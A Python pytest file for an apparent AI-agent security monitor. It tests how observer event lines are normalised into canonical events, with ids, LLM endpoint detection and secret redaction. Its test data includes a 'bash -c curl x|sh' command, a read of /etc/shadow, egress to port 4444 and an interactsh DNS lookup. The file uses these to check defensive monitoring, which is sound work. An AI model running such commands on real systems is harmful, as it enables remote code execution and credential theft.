"""Observer NDJSON lines → canonical events (SPEC §6, §7): identity, ids, subjects, attributes."""

import orjson
import pytest

from anysentry.events.ids import hash_id
from anysentry.events.model import Heartbeat, Observation, Rejection, SourceContext
from anysentry.events.observer import NormalizeSettings, normalize

NOW = 1_782_000_000_000


def line(event: dict, identity: dict | None = None, process: dict | None = None) -> str:
    record = {"identity": identity if identity is not None else {"agent": "python3", "task": "1903", "session": None},
              "process": process, "provider": None, "event": event}
    return orjson.dumps(record).decode()


def norm(text: str, **kw) -> Observation:
    obs = normalize({"line": text, **kw.pop("item", {})}, now=NOW, **kw)
    assert isinstance(obs, Observation), obs
    return obs


def test_tool_exec_spec_example():
    text = line(
        {"ToolExec": {"pid": 1903, "ppid": 1841, "uid": 0, "argv": ["bash", "-c", "curl x|sh"], "cwd": "/"}},
        process={"pid": 1903, "ppid": 1841, "comm": "bash", "exe": "/usr/bin/bash", "cwd": "/home/agent/work", "cgroup_id": 18412},
    )
    obs = norm(text)
    ev = obs.event
    assert (ev.eventKind, ev.eventCategory, ev.source) == ("ToolExec", "tool", "observer")
    assert ev.subject == "bash -c curl x|sh"
    assert obs.judge_kind == "ToolExec" and obs.judge_subject == "bash -c curl x|sh"
    # workspace comes from the event payload's cwd, not from process.cwd
    assert ev.workspacePath == "/"
    assert (ev.agentId, ev.sessionId, ev.runId, ev.taskId, ev.userId) == ("python3", "python3", "python3", "1903", "uid:0")
    assert ev.eventId == hash_id("evt", [NOW, "ToolExec", "python3", "python3", text])
    assert ev.traceId == hash_id("tr", ["/", "python3", "python3"])
    assert ev.spanId == hash_id("sp", [NOW, "ToolExec", "python3", "python3", text])
    assert ev.attributes["argv"] == "bash -c curl x|sh"
    assert ev.attributes["observerTask"] == "1903" and ev.attributes["observerKind"] == "ToolExec"
    assert ev.process["cgroupId"] == "18412" and ev.process["exe"] == "/usr/bin/bash"
    assert ev.rawPreview == text


@pytest.mark.parametrize(
    "identity, session, run",
    [
        ({"agent": "a", "task": "7", "session": "s1"}, "s1", "s1"),
        ({"agent": "a", "task": "7", "session": None}, "a", "a"),
        ({"agent": None, "task": 7, "session": None}, "task-7", "task-7"),
        ({}, "session", "session"),
    ],
)
def test_session_and_run_fallback_chain(identity, session, run):
    ev = norm(line({"Dns": {"pid": 1, "query": "example.com"}}, identity=identity)).event
    assert (ev.sessionId, ev.runId) == (session, run)
    if not identity.get("agent"):
        assert ev.agentId == "unknown" and ev.workspacePath == "agent://unknown"


def test_explicit_request_fields_win():
    item = {"agentId": "planner", "sessionId": "sess-9", "runId": "deploy-42", "workspacePath": "team-a/repo",
            "traceId": "tr_given", "spanId": "sp_given", "parentSpanId": "sp_parent", "userId": "alice", "taskId": "t1"}
    ev = norm(line({"ToolExec": {"pid": 2, "uid": 1000, "argv": ["ls"], "cwd": "/w"}}), item=item).event
    assert (ev.agentId, ev.sessionId, ev.runId, ev.workspacePath) == ("planner", "sess-9", "deploy-42", "team-a/repo")
    assert (ev.traceId, ev.spanId, ev.parentSpanId, ev.userId, ev.taskId) == ("tr_given", "sp_given", "sp_parent", "alice", "t1")


def test_source_event_id_makes_ids_idempotent_per_source():
    text = line({"Dns": {"pid": 1, "query": "example.com"}})
    src = SourceContext("src_abc", "", "")
    a = normalize({"line": text, "sourceEventId": "ose_1"}, source=src, now=NOW)
    b = normalize({"line": text, "sourceEventId": "ose_1"}, source=src, now=NOW + 5000)
    assert a.event.eventId == b.event.eventId == hash_id("evt", ["src_abc", "ose_1"])
    other = normalize({"line": text, "sourceEventId": "ose_1"}, source=SourceContext("src_other"), now=NOW)
    assert other.event.eventId != a.event.eventId


@pytest.mark.parametrize(
    "event, kind, category, subject, judge_subject",
    [
        ({"ProcessExit": {"pid": 3, "exit_code": 1, "signal": None}}, "ProcessExit", "process", "ProcessExit", None),
        ({"FileAccess": {"pid": 3, "path": "/etc/shadow", "write": False}}, "FileAccess", "file", "file /etc/shadow", "/etc/shadow"),
        ({"FileDelete": {"pid": 3, "path": "/tmp/x"}}, "FileDelete", "file", "file /tmp/x", None),
        ({"LlmCall": {"pid": 3, "sni": "api.openai.com", "peer": "1.2.3.4", "req_bytes": 10, "resp_bytes": 20,
                      "latency": {"secs": 1, "nanos": 500_000_000}}}, "LlmCall", "llm", "llm api.openai.com", None),
        ({"Egress": {"pid": 3, "peer": "1.2.3.4", "port": 4444, "bytes": 10}}, "Egress", "network", "egress → 1.2.3.4:4444", "1.2.3.4:4444"),
        ({"Egress": {"pid": 3, "peer": "1.2.3.4"}}, "Egress", "network", "egress → 1.2.3.4", "1.2.3.4:0"),
        ({"Dns": {"pid": 3, "query": "x1.interactsh.com"}}, "Dns", "network", "dns x1.interactsh.com", "x1.interactsh.com"),
        ({"SslContent": {"pid": 3, "is_read": False, "content": "hello"}}, "SslContent", "network", "ssl content", "hello"),
        ({"LlmApi": {"pid": 3, "is_request": True, "model": "gpt", "prompt_tokens": 12, "completion_tokens": 30}}, "LlmApi", "llm", "LlmApi", None),
        ({"SecurityAction": {"pid": 3, "kind": "setuid-root", "detail": 0}}, "SecurityAction", "security", "security setuid-root", "setuid-root 0"),
        ({"SecurityAction": {"pid": 3, "kind": "bind", "detail": 8080}}, "SecurityAction", "security", "security bind", "bind 8080"),
        ({"RuntimeEvent": {"kind": "verifier_warning"}}, "RuntimeEvent", "runtime", "RuntimeEvent", None),
    ],
)
def test_every_observer_kind(event, kind, category, subject, judge_subject):
    obs = norm(line(event))
    assert (obs.event.eventKind, obs.event.eventCategory, obs.event.subject, obs.judge_subject) == (kind, category, subject, judge_subject)


def test_llm_metrics():
    api = norm(line({"LlmApi": {"pid": 3, "prompt_tokens": 12, "completion_tokens": 30}})).event
    assert api.tokenCount == 42 and api.attributes["prompt_tokens"] == 12
    call = norm(line({"LlmCall": {"pid": 3, "sni": "x", "latency": {"secs": 1, "nanos": 250_000_000}}})).event
    assert call.latencyMs == 1250.0


def test_llm_endpoint_rewrite_keeps_judging_original_kind():
    obs = norm(line({"Egress": {"pid": 1, "peer": "api.openai.com", "port": 443}}))
    assert (obs.event.eventKind, obs.event.eventCategory) == ("LlmCall", "llm")
    assert obs.event.subject == "LLM call → api.openai.com"
    assert obs.judge_kind == "Egress" and obs.event.attributes["observerKind"] == "Egress"
    by_sni = norm(line({"Egress": {"pid": 1, "peer": "104.18.0.1", "sni": "api.anthropic.com", "port": 443}}))
    assert by_sni.event.eventKind == "LlmCall"
    dns = norm(line({"Dns": {"pid": 1, "query": "api.deepseek.com"}}))
    assert dns.event.eventKind == "LlmCall" and dns.judge_kind == "Dns"
    custom = normalize({"line": line({"Dns": {"pid": 1, "query": "llm.internal"}})},
                       settings=NormalizeSettings(("llm.internal",)))
    assert custom.event.eventKind == "LlmCall"
    plain = norm(line({"Egress": {"pid": 1, "peer": "github.com", "port": 443}}))
    assert plain.event.eventKind == "Egress"


def test_camel_and_snake_process_keys_agree():
    snake = {"pid": 5, "cgroup_id": 99, "systemd_unit": "agent.service", "host_id": "h", "boot_id": "b",
             "event_time_ns": 123456789012345678, "start_time_ticks": 987654321, "mount_namespace": 4026531840}
    camel = {"pid": 5, "cgroupId": 99, "systemdUnit": "agent.service", "hostId": "h", "bootId": "b",
             "eventTimeNs": 123456789012345678, "startTimeTicks": 987654321, "mountNamespace": 4026531840}
    a = norm(line({"Dns": {"pid": 5, "query": "q"}}, process=snake)).event.process
    b = norm(line({"Dns": {"pid": 5, "query": "q"}}, process=camel)).event.process
    assert a == b
    assert a["eventTimeNs"] == "123456789012345678" and a["startTimeTicks"] == "987654321" and a["cgroupId"] == "99"


def test_source_and_request_attributes():
    src = SourceContext("src_1", "team/ws", "col-a")
    ev = norm(line({"Dns": {"pid": 1, "query": "q"}}, identity={"agent": "a"}), source=src,
              item={"nodeName": "node-1", "attributes": {"team": "blue", "api_key": "zzz", "nested": {"a": 1}}}).event
    assert ev.sourceId == "src_1" and ev.collectorId == "col-a" and ev.workspacePath == "team/ws"
    assert ev.attributes["collectorNode"] == "node-1" and ev.attributes["sourceId"] == "src_1"
    assert ev.attributes["team"] == "blue" and ev.attributes["api_key"] == "[redacted]"
    assert ev.attributes["nested"] == '{"a":1}'


def test_attribute_limits():
    attrs = {f"k{i}": "v" * 1000 for i in range(500)}
    attrs["x" * 200] = 1
    ev = norm(line({"Dns": {"pid": 1, "query": "q"}}), item={"attributes": attrs}).event
    assert len(ev.attributes) <= 120
    assert all(len(k) <= 80 for k in ev.attributes)
    assert all(len(v) <= 240 for v in ev.attributes.values() if isinstance(v, str))


def test_huge_argv_is_bounded_and_marked_incomplete():
    obs = norm(line({"ToolExec": {"pid": 1, "argv": ["x" * 10_000] * 20}}))
    assert obs.evidence_incomplete
    assert len(obs.judge_subject) <= 32 * 1024 + 64
    assert len(obs.event.rawPreview) <= 1800 and len(obs.event.subject) <= 80


def test_argv_flags_mark_incomplete_evidence():
    assert norm(line({"ToolExec": {"pid": 1, "argv": ["python"], "argv_truncated": True}})).evidence_incomplete
    assert norm(line({"ToolExec": {"pid": 1, "argv": ["python"], "argv_incomplete": True}})).evidence_incomplete
    assert not norm(line({"ToolExec": {"pid": 1, "argv": ["python"]}})).evidence_incomplete


def test_heartbeat_line_is_control_plane():
    hb = normalize({"line": line({"CollectorHeartbeat": {"collector_id": "c1", "node_name": "n1", "exec": 4, "dns": 2,
                                                         "dropped": 3, "exec_incomplete": 1, "status": "degraded"}})})
    assert isinstance(hb, Heartbeat)
    assert hb.payload["collectorId"] == "c1" and hb.payload["eventKindCounts"] == {"ToolExec": 4, "Dns": 2}
    assert hb.payload["droppedEvents"] == 3 and hb.payload["errorCount"] == 1 and hb.payload["status"] == "degraded"
    fallback = normalize({"line": line({"CollectorHeartbeat": {}}), "nodeName": "n9"})
    assert fallback.payload["collectorId"] == "n9"


@pytest.mark.parametrize(
    "bad, reason",
    [
        ("", "unparseable event"),
        ("   ", "unparseable event"),
        ("not json", "unparseable event"),
        ('{"identity":{"agent":"a"},"event":{"ToolExec":{"argv":["ls"]', "unparseable event"),
        ("[1,2,3]", "unparseable event"),
        ('{"identity":{},"event":null}', "unparseable event"),
        ('{"identity":{},"event":{}}', "unparseable event"),
        ('{"identity":{},"event":{"Teleport":{"pid":1}}}', "unparseable event"),
        ('{"identity":{},"event":{"ToolExec":"oops"}}', "unparseable event"),
        ('{"identity":{},"event":[1]}', "unparseable event"),
    ],
)
def test_bad_lines_are_rejected_with_reason(bad, reason):
    result = normalize({"line": bad})
    assert isinstance(result, Rejection) and result.reason == reason


def test_missing_and_wrong_type_line():
    assert normalize({}).reason == "missing observer line"
    assert normalize({"line": 5}).reason == "unparseable event"
    assert normalize("x").reason == "invalid batch item"


def test_wrong_types_inside_payload_never_raise():
    odd = [
        {"ToolExec": {"pid": "x", "argv": [1, None, {"a": 1}, True], "uid": [1]}},
        {"Egress": {"peer": {"x": 1}, "port": "http"}},
        {"Dns": {"query": 42}},
        {"FileAccess": {"path": None}},
        {"LlmCall": {"latency": "slow", "sni": 3}},
        {"LlmApi": {"prompt_tokens": "12", "completion_tokens": None}},
        {"SecurityAction": {"kind": None, "detail": [1]}},
        {"SslContent": {"content": {"nested": "sk-abcdefghijklmnopqrst"}}},
    ]
    for event in odd:
        obs = normalize({"line": line(event, identity={"agent": ["x"], "task": {"t": 1}, "session": 3})})
        assert isinstance(obs, Observation)
        assert "sk-abcdefghijklmnopqrst" not in obs.event.to_json().decode()


def test_unit_variant_and_null_payload():
    assert isinstance(normalize({"line": '{"identity":{"agent":"a"},"event":"ProcessExit"}'}), Observation)
    assert isinstance(normalize({"line": '{"identity":{"agent":"a"},"event":{"ProcessExit":null}}'}), Observation)


def test_secret_canaries_never_serialised():
    canary = "sk-CANARY0123456789abcdef"
    text = line(
        {"ToolExec": {"pid": 1, "argv": ["curl", "-H", "Authorization: Bearer CANARYBEARER", f"--api-key={canary}",
                                          "--password=CANARYPASSWORD"], "cwd": "/w"}},
        identity={"agent": "a"},
        process={"pid": 1, "comm": "curl", "exe": f"/bin/{canary}"},
    )
    obs = normalize({"line": text, "attributes": {"token": "CANARYATTR", "note": f"key {canary}"},
                     "subject": f"token={canary}", "rawPreview": f"password=CANARYPASSWORD {canary}"})
    blob = obs.event.to_json().decode()
    for secret in (canary, "CANARYBEARER", "CANARYPASSWORD", "CANARYATTR"):
        assert secret not in blob
    # the judge still sees the raw argv for this event only in memory
    assert canary in obs.judge_subject


def test_redaction_is_linear_on_crafted_input():
    """A repeated key-like prefix must not make redaction quadratic (it runs on every raw line)."""
    import time

    from anysentry.events.redact import redact_text

    crafted = "token " + "a_" * 16_000
    started = time.perf_counter()
    redact_text(crafted)
    redact_text("password" + "-x" * 16_000)
    # generous bound: quadratic behaviour took seconds here, linear takes milliseconds
    assert time.perf_counter() - started < 1.0


def test_identity_fields_and_kinds_are_redacted():
    canary = "sk-CANARYabcdefghijklmnop"
    obs = normalize({"line": line({"Dns": {"pid": 1, "query": "q", "cwd": f"/w/{canary}"}},
                                  identity={"agent": f"token={canary}", "session": canary, "task": canary}),
                     "collectorId": canary, "nodeName": canary, "traceId": canary, "runId": canary}, default_source="observer")
    assert canary not in obs.event.to_json().decode()
    api = normalize({"line": {"identity": {"agent": "a"}, "event": {f"password={canary}": {"x": 1}}}}, default_source="api")
    assert canary not in api.event.to_json().decode()


def test_absurd_numbers_never_break_serialisation():
    from anysentry.events.synthesize import event_item

    for event in ({"kind": "tool", "command": "ls", "pid": 1e30, "uid": -5},
                  {"kind": "egress", "peer": "x", "port": 10**20},
                  {"kind": "llm_api", "promptTokens": 1e300, "completionTokens": "²"},
                  {"kind": "dns", "query": "q", "at": 1e300, "tokenCount": "nan", "latencyMs": "1e400"}):
        obs = normalize(event_item(event), default_source="api")
        assert isinstance(obs, Observation)
        obs.event.to_json()
